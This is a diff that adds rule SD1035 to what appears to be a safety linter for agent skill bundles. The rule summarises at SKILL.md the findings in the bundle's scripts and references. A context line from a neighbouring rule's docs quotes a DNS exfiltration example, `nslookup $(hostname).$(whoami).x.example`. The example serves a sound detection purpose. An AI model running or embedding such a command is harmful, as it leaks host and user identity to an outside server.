@@ -1292,6 +1292,24 @@ RULES: tuple[Rule, ...] = (
         "finding is SD1013.\n\n**Example:** `nslookup $(hostname).$(whoami).x.example`."
         "\n\n**Fix:** remove it.",
     ),
+    Rule(
+        code="SD1035",
+        name="bundle-safety-findings",
+        severity=_I,
+        drops_skill=False,
+        message="{count} safety finding{plural} in the bundle's other files ({files}): {found}",
+        summary="The files beside `SKILL.md` have safety findings, reported at their lines.",
+        docs="A finding of the bundle scan (an SD10xx finding in a script or a reference "
+        "beside `SKILL.md`) is reported at its own file and line: in `check`'s "
+        "text, JSON, SARIF and GitHub output, in the editor when that file is open, and in "
+        "the gates' reasons. `SKILL.md`, where a reviewer of the skill looks first, gets "
+        "this one summary naming each of them (file, line, code, severity), with a related "
+        "location at each. It follows the rule settings of the findings it names: a rule "
+        "switched off is not counted. The gates judge the findings themselves, not this "
+        "summary.\n\n**Example:** `2 safety findings in the bundle's other files (2 files): "
+        "`scripts/run.sh` line 3 (SD1013 error), `references/notes.md` line 5 (SD1006 "
+        "error)`.\n\n**Fix:** fix the findings it names.",
+    ),
 )
 
 
